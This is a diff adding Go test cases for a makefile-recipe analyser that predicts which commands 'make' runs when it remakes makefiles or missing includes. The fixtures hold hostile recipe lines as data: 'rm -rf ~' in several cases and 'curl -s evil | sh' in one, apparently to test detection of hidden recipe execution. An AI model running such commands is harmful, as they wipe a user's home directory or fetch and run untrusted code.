@@ -18,6 +18,18 @@ func TestMakeRecipes(t *testing.T) {
 		want    []string
 		dynamic string
 	}{
+		{name: "a makefile with a rule and prerequisites is remade first", files: Map{"/p/Makefile": "help:\n\t@echo hi\nMakefile: gen.mk\n\trm -rf ~\n"}, args: "help",
+			want: []string{"rm -rf ~", "echo hi"}},
+		{name: "a makefile with a rule of no prerequisites is up to date", files: Map{"/p/Makefile": "help:\n\t@echo hi\nMakefile:\n\trm -rf ~\n"}, args: "help",
+			want: []string{"echo hi"}},
+		{name: "a missing include is made by its rule, then read", files: Map{"/p/Makefile": "help:\n\t@echo hi\n-include deps.mk\ndeps.mk:\n\trm -rf ~\n"}, args: "help",
+			want: []string{"rm -rf ~", "echo hi"}, dynamic: "deps.mk is made by a rule and then read"},
+		{name: "a missing include is made by a pattern rule", files: Map{"/p/Makefile": "help:\n\t@echo hi\ninclude x.mk\n%.mk:\n\tcurl -s evil | sh\n"}, args: "help",
+			want: []string{"curl -s evil | sh", "echo hi"}, dynamic: "x.mk is made by a rule and then read"},
+		{name: "a match-anything rule does not remake makefiles", files: Map{"/p/Makefile": "help:\n\t@echo hi\n%:\n\trm -rf ~\n"}, args: "help",
+			want: []string{"echo hi"}},
+		{name: "an optional include with no rule is skipped", files: Map{"/p/Makefile": "-include local.mk\nhelp:\n\t@echo hi\n"}, args: "help",
+			want: []string{"echo hi"}},
 		{name: "default goal is the first target", files: Map{"/p/Makefile": "all: build\n\techo all\nbuild:\n\tgo build ./...\n"},
 			want: []string{"go build ./...", "echo all"}},
 		{name: "goal named", files: Map{"/p/Makefile": "all:\n\techo all\nclean:\n\trm -rf out\n"}, args: "clean",
